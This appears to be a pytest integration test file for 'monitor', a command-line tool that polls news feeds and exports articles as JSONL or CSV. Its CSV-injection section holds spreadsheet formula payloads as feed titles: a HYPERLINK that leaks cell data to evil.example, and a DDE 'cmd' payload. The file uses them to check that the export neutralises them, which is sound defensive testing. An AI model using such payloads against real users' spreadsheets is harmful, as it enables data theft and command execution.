"""The ``monitor`` command as a user runs it: a subprocess, a temp config pointing at loopback feeds, SQLite."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from monitor.store import open_store
from monitor.store.store import head_revision
from tests.support.cli import run_monitor, write_config
from tests.support.feedserver import Feed, FeedServer, Item, rss, status

NOW = time.time()


@dataclass
class Env:
    tmp: Path
    config: Path
    db: Path
    server: FeedServer

    def write(self, feeds: list[tuple[str, str]], extra: str = "") -> None:
        # The items link to invented hosts (alpha.example): no article page to fetch (tests/test_pages.py).
        lines = [f"database: sqlite:///{self.db}", "defaults:", "  fulltext: never", "http:", "  timeout: 2s",
                 "  connect_timeout: 1s", "feeds:"]
        for name, url in feeds:
            lines += [f"  - name: {name}", f"    url: {url}", "    interval: 15m"]
        self.config.write_text("\n".join(lines) + "\n" + extra, encoding="utf-8")

    def run(self, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
        return run_monitor("--config", str(self.config), *args, cwd=self.tmp, env=env, timeout=60)


ALPHA = [
    Item("Alpha: Scholz calls for talks with Moscow", "https://alpha.example/1?utm_source=rss", "a1",
         "<p>Chancellor <b>says</b> dialogue</p>", published=NOW - 3600),
    Item("Alpha: Poland rejects the proposal", "https://alpha.example/2", "a2", "Warsaw says no",
         published=NOW - 2 * 86400),
    Item("Alpha: an old story from last month", "https://alpha.example/old", "a3", "old", published=NOW - 30 * 86400),
]
BETA = [
    Item("Beta: Hungary blocks the statement", "https://beta.example/1", "b1", "Budapest", published=NOW - 7200),
    Item("Beta carries the Alpha story too", "https://alpha.example/1", "b2", "same URL", published=NOW - 3600),
]


@pytest.fixture
def env(tmp_path: Path, feed_server: FeedServer) -> Env:
    e = Env(tmp_path, tmp_path / "monitor.yaml", tmp_path / "db" / "monitor.db", feed_server)
    e.write([
        ("Alpha", feed_server.route("/alpha", Feed(rss(ALPHA)))),
        ("Beta News", feed_server.route("/beta", Feed(rss(BETA, language="de")))),
        ("Broken", feed_server.route("/broken", status(500, b"down"))),
    ])
    return e


SUMMARY = re.compile(r"^(\d+) feeds?: (\d+) ok, (\d+) not modified, (\d+) failed; (\d+) new articles? in [\d.]+s$")


def summary(stdout: str) -> tuple[int, ...]:
    """The cycle's summary line (a line about article pages may follow it)."""
    found = [m for line in stdout.strip().splitlines() if (m := SUMMARY.match(line))]
    assert len(found) == 1, f"no summary line in {stdout!r}"
    return tuple(int(g) for g in found[0].groups())


# ------------------------------------------------------------------------------------------------ poll


def test_poll_reports_failures_and_exits_zero(env: Env) -> None:
    result = env.run("poll")
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert result.stdout.strip().splitlines() == [result.stdout.strip()]  # one line
    assert summary(result.stdout) == (3, 2, 0, 1, 4)  # 5 items, one URL in both feeds
    assert result.stderr.strip().splitlines() == [
        f"failed: Broken <{env.server.url('/broken')}>: HTTP 500 Internal Server Error"]

    again = env.run("poll")
    assert again.returncode == 0
    assert summary(again.stdout) == (3, 0, 2, 1, 0)
    assert len(env.server.hits("/alpha")) == 2
    assert env.server.hits("/alpha")[1].headers["if-none-match"] == '"v1"'


def test_poll_single_feed(env: Env) -> None:
    result = env.run("poll", "--feed", "beta news")  # names are matched without regard to case
    assert result.returncode == 0, result.stderr
    assert summary(result.stdout) == (1, 1, 0, 0, 2)
    assert result.stderr == ""
    assert len(env.server.hits("/beta")) == 1
    assert env.server.hits("/alpha") == []
    assert env.server.hits("/broken") == []

    both = env.run("poll", "--feed", "Alpha", "--feed", "Broken")
    assert both.returncode == 0
    assert summary(both.stdout) == (2, 1, 0, 1, 2)  # Alpha's first story is already stored from Beta
    assert len(env.server.hits("/beta")) == 1


def test_poll_unknown_feed_is_a_one_line_error(env: Env) -> None:
    result = env.run("poll", "--feed", "Nope")
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert result.stderr.strip().splitlines() == [
        f"{env.config}: no feed named 'Nope' (known: Alpha, Beta News, Broken)"]
    assert env.server.requests == []


def test_poll_due(env: Env) -> None:
    assert env.run("poll").returncode == 0
    result = env.run("poll", "--due")
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "no feeds to poll (none is due)"
    assert len(env.server.hits("/alpha")) == 1

    # a feed added to the config has never been polled: it is due, the others are not
    feeds = [("Alpha", env.server.url("/alpha")), ("Beta News", env.server.url("/beta")),
             ("Broken", env.server.url("/broken")),
             ("Gamma", env.server.route("/gamma", Feed(rss([Item("Gamma: a new outlet's story",
                                                                  "https://gamma.example/1", "g1",
                                                                  published=NOW - 60)]))))]
    env.write(feeds)
    result = env.run("poll", "--due")
    assert result.returncode == 0, result.stderr
    assert summary(result.stdout) == (1, 1, 0, 0, 1)
    assert len(env.server.hits("/gamma")) == 1
    assert len(env.server.hits("/alpha")) == 1
    assert len(env.server.hits("/broken")) == 1

    # without --due every enabled feed is polled whatever its schedule
    result = env.run("poll")
    assert summary(result.stdout) == (4, 0, 3, 1, 0)


def test_poll_skips_disabled_feeds(env: Env) -> None:
    env.write([("Alpha", env.server.url("/alpha"))],
              extra=f"  - name: Off\n    url: {env.server.url('/broken')}\n    enabled: false\n")
    result = env.run("poll")
    assert summary(result.stdout) == (1, 1, 0, 0, 3)
    assert env.server.hits("/broken") == []


def test_unreachable_database_is_one_line(env: Env) -> None:
    result = env.run("poll", env={"MONITOR_DATABASE_URL": "postgresql://monitor:pw1234@127.0.0.1:1/none"})
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith("monitor: database postgresql+psycopg://monitor:***@127.0.0.1:1/none unavailable: ")
    assert "pw1234" not in line


# ------------------------------------------------------------------------------------------------ feeds


def test_feeds_table(env: Env) -> None:
    env.write([("Alpha", env.server.url("/alpha")), ("Beta News", env.server.url("/beta")),
               ("Broken", env.server.url("/broken"))],
              extra="  - name: Later\n    url: https://later.example/rss\n    enabled: false\n")
    before = env.run("feeds")
    assert before.returncode == 0, before.stderr
    assert [line.split()[:2] for line in before.stdout.strip().splitlines()[1:5]] == [
        ["Alpha", "new"], ["Beta", "News"], ["Broken", "new"], ["Later", "disabled"]]

    assert env.run("poll").returncode == 0
    result = env.run("feeds")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.rstrip().splitlines()
    assert lines[0].split() == ["FEED", "STATUS", "LAST", "SUCCESS", "FAILS", "NEXT", "POLL", "ARTICLES", "PAGES",
                                "LAST", "ERROR"]
    rows = {line.split("  ")[0]: re.split(r"\s{2,}", line.strip()) for line in lines[1:5]}
    assert rows["Alpha"][:6] == ["Alpha", "ok", rows["Alpha"][2], "0", rows["Alpha"][4], "3"]
    assert re.fullmatch(r"\d+s ago", rows["Alpha"][2])
    assert re.fullmatch(r"in 1[45]m", rows["Alpha"][4])
    assert rows["Beta News"][1] == "ok"
    assert rows["Beta News"][5] == "2"
    assert rows["Broken"][:4] == ["Broken", "error 500", "never", "1"]
    assert rows["Broken"][-1] == "HTTP 500 Internal Server Error"
    assert rows["Later"][1] == "disabled"
    assert lines[-1] == "4 feeds, 1 failing"


# ------------------------------------------------------------------------------------------------ export


def poll_alpha_first(env: Env) -> None:
    """Beta News carries Alpha's Scholz story too; whichever feed stores it first gives it its title, and feeds
    in one cycle are fetched concurrently. Alpha goes first, so the stored story is Alpha's."""
    assert env.run("poll", "--feed", "Alpha").returncode == 0
    assert env.run("poll").returncode == 0


def test_export_jsonl(env: Env) -> None:
    poll_alpha_first(env)
    result = env.run("export", "--since", "7d", "--format", "jsonl")
    assert result.returncode == 0, result.stderr
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["title"] for r in records] == [  # oldest first; last month's story is outside --since 7d
        "Alpha: Poland rejects the proposal", "Beta: Hungary blocks the statement",
        "Alpha: Scholz calls for talks with Moscow"]
    for r in records:
        assert {"id", "url", "title", "summary", "published", "language", "feeds"} <= set(r)
        assert isinstance(r["id"], int)
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", r["published"])
    scholz = records[2]
    assert scholz["url"] == "https://alpha.example/1"
    assert scholz["summary"] == "Chancellor says dialogue"
    assert scholz["language"] == "en"
    assert scholz["feeds"] == ["Alpha", "Beta News"]
    assert records[1]["language"] == "de"
    assert records[1]["feeds"] == ["Beta News"]

    everything = env.run("export")
    assert len(everything.stdout.splitlines()) == 4
    assert len({json.loads(line)["id"] for line in everything.stdout.splitlines()}) == 4


def test_export_csv(env: Env) -> None:
    poll_alpha_first(env)
    result = env.run("export", "--since", "7d", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {"id", "url", "title", "summary", "published", "language", "feeds"} <= set(rows[0])
    assert [r["title"] for r in rows] == ["Alpha: Poland rejects the proposal", "Beta: Hungary blocks the statement",
                                          "Alpha: Scholz calls for talks with Moscow"]
    assert rows[2]["feeds"] == "Alpha; Beta News"
    assert rows[2]["url"] == "https://alpha.example/1"
    assert rows[1]["language"] == "de"
    assert all(r["id"].isdigit() for r in rows)


def test_export_since_a_date_and_bad_since(env: Env) -> None:
    assert env.run("poll").returncode == 0
    day = time.strftime("%Y-%m-%d", time.gmtime(NOW - 40 * 86400))
    assert len(env.run("export", "--since", day).stdout.splitlines()) == 4
    bad = env.run("export", "--since", "last tuesday")
    assert bad.returncode != 0
    assert "Traceback" not in bad.stderr
    assert "'last tuesday': use a duration (7d, 12h) or a date (2026-11-01)" in bad.stderr


def test_export_empty_database(env: Env) -> None:
    result = env.run("export", "--format", "csv")
    assert result.returncode == 0, result.stderr
    (header,) = result.stdout.strip().splitlines()
    assert {"id", "url", "title", "summary", "published", "language", "feeds"} <= set(header.split(","))


# ------------------------------------------------------------------------------------------------ db


def test_db_upgrade(env: Env) -> None:
    assert not env.db.exists()
    current = env.run("db", "current")
    assert current.returncode == 0, current.stderr
    assert current.stdout.strip() == "empty (run `monitor db upgrade`)"
    result = env.run("db", "upgrade")
    assert result.returncode == 0, result.stderr
    head = head_revision()
    assert head is not None
    assert result.stdout.strip() == f"database at revision {head}"
    assert env.db.exists()
    assert env.run("db", "current").stdout.strip() == head
    assert env.run("db", "upgrade").stdout.strip() == f"database at revision {head}"  # idempotent
    store = open_store(f"sqlite:///{env.db}", upgrade=False)
    try:
        assert store.revision() == head
        assert store.count_articles() == 0
    finally:
        store.close()


def test_version_and_help(env: Env) -> None:
    assert env.run("--version").stdout.strip() == "monitor, version 0.1.0"
    helptext = env.run("--help").stdout
    for command in ("check", "db", "export", "feeds", "poll", "run"):
        assert re.search(rf"^\s+{command}\s", helptext, re.M), command


# ------------------------------------------------------------------------------------------------ killed polls


def _children() -> dict[int, list[int]]:
    kids: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            ppid = int(stat.rsplit(")", 1)[1].split()[1])
            kids.setdefault(ppid, []).append(int(entry.name))
    return kids


def _descendants(pid: int) -> set[int]:
    kids, found, todo = _children(), set(), [pid]
    while todo:
        for child in kids.get(todo.pop(), ()):
            found.add(child)
            todo.append(child)
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"  # a zombie has exited; only its exit status waits for a parent


def _still_alive_after(pids: set[int], seconds: float) -> list[tuple[int, bytes]]:
    deadline = time.time() + seconds
    while time.time() < deadline and any(_alive(p) for p in pids):
        time.sleep(0.1)
    return [(p, Path(f"/proc/{p}/cmdline").read_bytes()[:100]) for p in pids if _alive(p)]


def _slow_poll(env: Env) -> subprocess.Popen[str]:
    """`monitor poll` with parser workers busy on three feeds and five more feeds that never answer."""
    from tests.support.cli import clean_env
    from tests.support.feedserver import hang

    many = [Item(f"Story {i} on talks with Moscow", f"https://busy.example/{i}", f"s{i}", "text " * 50,
                 published=NOW - 600) for i in range(200)]
    feeds = [(f"Quick {i}", env.server.route(f"/quick{i}", Feed(rss(many)))) for i in range(3)]
    feeds += [(f"Stuck {i}", env.server.route(f"/stuck{i}", hang(60))) for i in range(5)]
    env.write(feeds)
    env.config.write_text(env.config.read_text().replace("timeout: 2s", "timeout: 60s"), encoding="utf-8")
    import sys

    return subprocess.Popen([sys.executable, "-m", "monitor", "--config", str(env.config), "poll", "--workers", "2"],
                            cwd=env.tmp, env=clean_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def _wait_for_workers(proc: subprocess.Popen[str]) -> set[int]:
    deadline = time.time() + 30
    while time.time() < deadline:
        family = _descendants(proc.pid)
        if len(family) >= 4:  # resource tracker, forkserver and two workers
            return family
        time.sleep(0.1)
    raise AssertionError(f"the poll never started its workers: {_descendants(proc.pid)}")


def test_a_poll_killed_with_sigkill_leaves_no_process_behind(env: Env) -> None:
    proc = _slow_poll(env)
    family = _wait_for_workers(proc)
    proc.kill()
    proc.wait()
    assert _still_alive_after(family, 5.0) == []


def test_sigterm_ends_a_poll_like_ctrl_c(env: Env) -> None:
    import signal

    proc = _slow_poll(env)
    family = _wait_for_workers(proc)
    deadline = time.time() + 30
    while time.time() < deadline and not (env.db.exists() and _count_articles(env) >= 200):
        time.sleep(0.2)
    proc.send_signal(signal.SIGTERM)
    out, err = proc.communicate(timeout=20)
    assert proc.returncode == 128 + signal.SIGTERM, (out, err)
    assert err.strip().splitlines()[-1] == "monitor: terminated" and "Traceback" not in err
    assert _still_alive_after(family, 5.0) == []
    assert _count_articles(env) >= 200  # what was stored stays stored


def _count_articles(env: Env) -> int:
    import sqlite3

    try:
        with sqlite3.connect(env.db, timeout=5) as conn:
            return conn.execute("SELECT count(*) FROM articles").fetchone()[0]
    except sqlite3.Error:
        return 0


# ------------------------------------------------------------------------------------------------ paths and options


def test_commands_find_the_same_data_from_any_directory(tmp_path: Path, feed_server: FeedServer) -> None:
    """systemd starts the daemon in /, cron in $HOME, the analyst in the checkout: relative paths in the config
    are the config file's, so all of them read and write the same database and outbox."""
    folder = tmp_path / "srv" / "monitor" / "config"
    folder.mkdir(parents=True)
    config = write_config(folder, f"""
        database: sqlite:///../data/monitor.db
        outbox: ../data/outbox
        http:
          timeout: 2s
        feeds:
          - name: Alpha
            url: {feed_server.route("/alpha", Feed(rss(ALPHA)))}
    """)
    home, cron = tmp_path / "home", tmp_path / "cron"
    home.mkdir()
    cron.mkdir()
    data = tmp_path / "srv" / "monitor" / "data"

    polled = run_monitor("--config", str(config), "poll", cwd=home)
    assert polled.returncode == 0, polled.stderr
    assert summary(polled.stdout) == (1, 1, 0, 0, 3)
    assert (data / "monitor.db").is_file()

    listed = run_monitor("feeds", "--config", str(config), cwd=cron)
    assert listed.returncode == 0, listed.stderr
    assert re.split(r"\s{2,}", listed.stdout.splitlines()[1])[:2] == ["Alpha", "ok"]
    exported = run_monitor("export", cwd=cron, env={"MONITOR_CONFIG": str(config)})
    assert len(exported.stdout.splitlines()) == 3

    checked = run_monitor("check", "--config", str(config), cwd=home)
    assert checked.returncode == 0, checked.stderr
    assert checked.stdout.splitlines()[1:] == [f"  database  sqlite:///{data}/monitor.db",
                                               f"  outbox    {data}/outbox"]
    assert list(home.iterdir()) == [] and list(cron.iterdir()) == []  # nothing landed where the commands ran


def test_a_database_left_by_the_old_rule_is_found_and_named(tmp_path: Path, feed_server: FeedServer) -> None:
    folder = tmp_path / "config"
    folder.mkdir()
    config = write_config(folder, f"""
        database: sqlite:///data/monitor.db
        feeds:
          - name: Alpha
            url: {feed_server.route("/alpha", Feed(rss(ALPHA)))}
    """)
    # Until now the path was the working directory's: the analyst always ran monitor from tmp_path.
    legacy = tmp_path / "data" / "monitor.db"
    legacy.parent.mkdir()
    store = open_store(f"sqlite:///{legacy}")
    store.close()
    result = run_monitor("--config", str(config), "poll", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    (warning,) = result.stderr.splitlines()
    assert warning == (f"monitor: warning: {config}:1: database: data/monitor.db is now read relative to the config "
                       f"file's folder ({folder}/data/monitor.db, which does not exist); using {legacy}, found "
                       f"relative to the working directory: write \"database: sqlite:///{legacy}\" to keep using it")
    assert not (folder / "data").exists()
    store = open_store(f"sqlite:///{legacy}")
    try:
        assert store.count_articles() == 3  # the poll went into the database that already existed
    finally:
        store.close()


def test_global_options_work_after_the_subcommand_too(env: Env) -> None:
    result = run_monitor("poll", "--feed", "Alpha", "--config", str(env.config), "--log-format", "json",
                         "--log-level", "info", cwd=env.tmp)
    assert result.returncode == 0, result.stderr
    assert summary(result.stdout) == (1, 1, 0, 0, 3)
    events = [json.loads(line) for line in result.stderr.splitlines()]
    assert [e["event"] for e in events] == ["feed.polled"] and events[0]["feed"] == "Alpha"

    nested = run_monitor("db", "current", "--config", str(env.config), cwd=env.tmp)
    assert nested.returncode == 0, nested.stderr
    assert nested.stdout.strip() == head_revision()
    # given twice, the one after the subcommand wins
    twice = run_monitor("--config", str(env.tmp / "missing.yaml"), "check", "--config", str(env.config), cwd=env.tmp)
    assert twice.returncode == 0, twice.stderr
    for command in (["classify"], ["feeds", "add"], ["digest", "list"], ["eval"]):
        helptext = run_monitor(*command, "--help", cwd=env.tmp).stdout
        assert "--config PATH" in helptext and "--debug" in helptext, command


def test_classify_and_eval_run_without_any_config_file(tmp_path: Path) -> None:
    line = json.dumps({"id": "x1", "title": "Hungary blocks new EU sanctions against Russia", "text": ""})
    result = run_monitor("classify", "-", cwd=tmp_path, stdin=line + "\n")
    assert result.returncode == 0, result.stderr
    out = json.loads(result.stdout)
    assert out["id"] == "x1" and [s["country"] for s in out["stances"]] == ["HU"]

    sample = tmp_path / "labelled.jsonl"
    sample.write_text(json.dumps({"id": 1, "title": "Poland expels Russian diplomats", "text": "",
                                  "relevant": True, "labels": {"PL": "hardline"}}) + "\n", encoding="utf-8")
    scored = run_monitor("eval", str(sample), "--json", cwd=tmp_path)
    assert scored.returncode == 0, scored.stderr
    assert "relevance" in json.loads(scored.stdout)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["labelled.jsonl"]  # no database, no data folder

    named = run_monitor("classify", "--config", str(tmp_path / "nope.yaml"), "-", cwd=tmp_path, stdin=line + "\n")
    assert named.returncode == 2  # a config named explicitly must exist
    assert named.stderr.strip() == f"{tmp_path / 'nope.yaml'}: config file not found (pass --config PATH or set " \
                                   "$MONITOR_CONFIG)"


@pytest.mark.parametrize(("text", "problem"), [
    ("", "the config file is empty: add feeds under feeds: (see README, Configuration), or try `monitor demo`"),
    ("# nothing but a comment\n", "the config file is empty"),
    ("log:\n  level: info\n", "no feeds configured: add some under feeds: or with `monitor feeds add URL`"),
    ("feeds:\n  - name: Off\n    url: http://off.example/rss\n    enabled: false\n",
     "the only feed is disabled (enabled: false): enable one to poll"),
])
def test_run_and_poll_refuse_a_config_with_nothing_to_poll(tmp_path: Path, text: str, problem: str) -> None:
    config = write_config(tmp_path, text)
    for command in (["poll"], ["run"]):
        result = run_monitor("--config", str(config), *command, cwd=tmp_path, timeout=30)
        assert result.returncode == 2, (command, result.stdout, result.stderr)
        (line,) = result.stderr.splitlines()
        assert line.startswith(f"{config}: {problem}"), line
    checked = run_monitor("--config", str(config), "check", cwd=tmp_path)
    assert checked.returncode == 0, checked.stderr
    assert checked.stdout.startswith(f"{config}: ok (")
    (warning,) = checked.stderr.splitlines()
    assert warning.startswith(f"warning: {config}: {problem}"), warning
    assert not (tmp_path / "data").exists()


def test_unknown_feed_name_gets_a_suggestion(env: Env) -> None:
    result = env.run("poll", "--feed", "Alpah")
    assert result.returncode == 2
    assert result.stderr.strip() == f"{env.config}: no feed named 'Alpah' (did you mean 'Alpha'?)"


# ------------------------------------------------------------------------------------------------ offline


def test_poll_says_once_when_every_feed_failed_for_the_network(tmp_path: Path) -> None:
    config = write_config(tmp_path, """
        http:
          timeout: 5s
        feeds:
          - {name: One, url: "http://one.invalid/rss"}
          - {name: Two, url: "http://two.invalid/rss"}
          - {name: Three, url: "http://three.invalid/rss"}
    """)
    result = run_monitor("--config", str(config), "poll", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert summary(result.stdout) == (3, 0, 0, 3, 0)
    (line,) = result.stderr.splitlines()
    assert re.fullmatch(r"every feed failed \(3\): (host not found|name lookup failed \(DNS\)); is this machine "
                        r"offline\? `monitor demo` shows the whole pipeline without a network", line), line


# ------------------------------------------------------------------------------------------------ manual polls


def test_a_manual_poll_does_not_stretch_the_backoff_of_a_failing_feed(env: Env) -> None:
    assert env.run("poll", "--feed", "Broken").returncode == 0
    db = open_store(f"sqlite:///{env.db}")
    try:
        first = db.feed_state("Broken")
        assert first is not None and first.consecutive_failures == 1  # a failure seen by hand still counts once
        for _ in range(2):
            assert env.run("poll", "--feed", "Broken").returncode == 0
        again = db.feed_state("Broken")
        assert again is not None
        assert again.consecutive_failures == 1 and again.next_poll_at == first.next_poll_at  # not doubled twice
        assert again.last_polled_at is not None and again.last_polled_at > first.last_polled_at  # but recorded
        assert len(env.server.hits("/broken")) == 3
    finally:
        db.close()


# ------------------------------------------------------------------------------------------------ export filters


JUDGED = [  # written for these tests; the judge reads them as the comments say
    Item("Hungary blocks new EU sanctions against Russia", "https://judged.example/hu", "j1",
         "Budapest vetoed the package, diplomats said.", published=NOW - 3600),  # HU pro_dialogue
    Item("Greece backs sanctions but wants talks with Moscow", "https://judged.example/gr", "j2",
         "Athens supports the sanctions regime but wants the EU to open talks with Moscow.",
         published=NOW - 5400),  # GR
    Item("Lisbon hosts a sailing regatta", "https://judged.example/sail", "j3", "Boats from Spain took part.",
         published=NOW - 600),  # not relevant
]


@pytest.fixture
def judged(env: Env) -> Env:
    env.write([("Judged", env.server.route("/judged", Feed(rss(JUDGED))))])
    assert env.run("poll").returncode == 0
    return env


def test_export_relevant_only_and_per_country(judged: Env) -> None:
    everything = [json.loads(line) for line in judged.run("export").stdout.splitlines()]
    assert len(everything) == 3
    relevant = [json.loads(line) for line in judged.run("export", "--relevant").stdout.splitlines()]
    assert sorted(r["title"] for r in relevant) == sorted(r["title"] for r in everything if r["relevant"])
    assert "Lisbon hosts a sailing regatta" not in {r["title"] for r in relevant}

    for spelling in ("EL", "gr", "Greece", "Griechenland"):  # the EU's code, ISO's, names in any language
        greek = [json.loads(line) for line in judged.run("export", "--country", spelling).stdout.splitlines()]
        assert [r["title"] for r in greek] == ["Greece backs sanctions but wants talks with Moscow"], spelling
        assert {s["country"] for s in greek[0]["stances"]} == {"GR"}

    rows = list(csv.DictReader(io.StringIO(judged.run("export", "--format", "csv", "--country", "Hungary",
                                                      "--country", "EL").stdout)))
    assert list(rows[0])[-2:] == ["GR", "HU"]  # one column per requested state, nothing packed
    by_title = {r["title"]: r for r in rows}
    assert by_title["Hungary blocks new EU sanctions against Russia"]["HU"] == "pro_dialogue"
    assert by_title["Hungary blocks new EU sanctions against Russia"]["GR"] == ""

    full = list(csv.DictReader(io.StringIO(judged.run("export", "--format", "csv").stdout)))
    assert len(full[0]) == 11 + 27  # the fields (text_source among them), then a column per state

    bad = judged.run("export", "--country", "Hungry")
    assert bad.returncode == 2 and "Traceback" not in bad.stderr
    assert "'Hungry' is not an EU member state (did you mean Hungary (HU)?)" in bad.stderr


def test_stances_take_the_eus_code_for_greece_and_country_names(judged: Env) -> None:
    for spelling in ("EL", "Greece", "hungary"):
        result = judged.run("stances", "--country", spelling)
        assert result.returncode == 0, (spelling, result.stderr)
        assert result.stdout.splitlines()[1].startswith("GR Greece" if spelling != "hungary" else "HU Hungary")
    bad = judged.run("stances", "--country", "Atlantis")
    assert bad.returncode == 2
    assert "'Atlantis' is not an EU member state (use a code such as IT, PL or EL, or a name such as Hungary)" \
        in bad.stderr


# ------------------------------------------------------------------------------------------------ CSV injection


FORMULAS = [  # titles a hostile or careless feed can carry; a spreadsheet would run each as a formula
    Item('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "https://csv.example/1", "c1", "x",
         published=NOW - 100),
    Item("+31 new sanctions listed", "https://csv.example/2", "c2", "=1+1", published=NOW - 200),
    Item("-5% fall in gas flows", "https://csv.example/3", "c3", "y", published=NOW - 300),
    Item("@SUM(1+1)*cmd|' /C calc'!A0", "https://csv.example/4", "c4", "z", published=NOW - 400),
    Item('"=2+5" said the headline', "https://csv.example/5", "c5", "z", published=NOW - 500),
    Item("A plain headline about the summit", "https://csv.example/6", "c6", "plain", published=NOW - 600),
]


def test_csv_export_neutralises_spreadsheet_formulas(env: Env) -> None:
    env.write([("=Feed", env.server.route("/csv", Feed(rss(FORMULAS))))])
    assert env.run("poll").returncode == 0
    result = env.run("export", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    titles = {r["url"]: r["title"] for r in rows}
    assert titles["https://csv.example/1"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert titles["https://csv.example/2"] == "'+31 new sanctions listed"
    assert titles["https://csv.example/3"] == "'-5% fall in gas flows"
    assert titles["https://csv.example/4"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert titles["https://csv.example/5"] == '\'"=2+5" said the headline'  # behind a quote a spreadsheet strips
    assert titles["https://csv.example/6"] == "A plain headline about the summit"
    assert {r["summary"] for r in rows if r["url"] == "https://csv.example/2"} == {"'=1+1"}
    assert {r["feeds"] for r in rows} == {"'=Feed"}
    for r in rows:  # numbers stay numbers
        assert r["id"].isdigit() and not r["relevance"].startswith("'")
    # jsonl is for programs, not spreadsheets: unchanged
    records = [json.loads(line) for line in env.run("export").stdout.splitlines()]
    assert {r["title"] for r in records} >= {"+31 new sanctions listed", "-5% fall in gas flows"}


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\tplain", "'\tplain"), ("  =1+1", "'  =1+1"), ('"=1+1"', '\'"=1+1"'), ("' =1", "'' =1"),
    ("plain", "plain"), ("a=b", "a=b"), ("2026-11-01", "2026-11-01"), ("", ""), (-0.5, -0.5), (7, 7),
])
def test_spreadsheet_safe_cells(cell: object, safe: object) -> None:
    from monitor.cli import spreadsheet_safe

    assert spreadsheet_safe(cell) == safe
